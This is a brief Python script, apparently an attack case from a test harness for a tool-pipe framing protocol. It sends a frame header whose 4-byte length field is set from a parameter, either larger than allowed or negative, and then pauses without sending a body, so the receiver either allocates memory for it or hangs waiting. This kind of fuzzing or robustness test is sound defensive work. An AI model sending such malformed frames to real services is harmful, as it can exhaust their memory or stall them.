"""A frame on the tool pipe that announces more than any frame may have, or less than nothing; then nothing more.

Who believes it allocates the space, or waits for bytes that never come.
"""

import signal

import attack

attack.send_raw(int(attack.PARAMETERS["length"]).to_bytes(4, "big") + b"\x06")
signal.pause()
